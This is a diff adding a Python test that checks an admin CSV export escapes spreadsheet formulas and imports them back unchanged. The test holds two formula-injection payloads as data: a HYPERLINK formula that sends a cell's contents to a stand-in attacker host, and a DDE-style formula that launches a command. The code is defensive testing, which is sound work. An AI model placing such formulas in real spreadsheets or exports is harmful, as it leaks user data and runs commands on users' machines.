@@ -482,3 +482,22 @@ def test_export_takes_the_same_queries_for_any_number_of_entries(
         )
 
     assert len(read(response.content.decode())) == rows
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_the_admin_export_neutralises_formulas_and_imports_back_unchanged(curator_client, kratom):
+    entry = LegalStatusFactory(
+        substance=kratom, summary=FORMULA, details=AT_FORMULA, sources=[SourceFactory()]
+    )
+    text = export(curator_client)
+    rows = read(text)
+    assert (rows[0]["summary"], rows[0]["details"]) == ("'" + FORMULA, "'" + AT_FORMULA)
+
+    done = confirm(curator_client, preview(curator_client, write(rows)))
+
+    assert done.status_code == 200
+    entry.refresh_from_db()
+    assert (entry.summary, entry.details, entry.version) == (FORMULA, AT_FORMULA, 1)
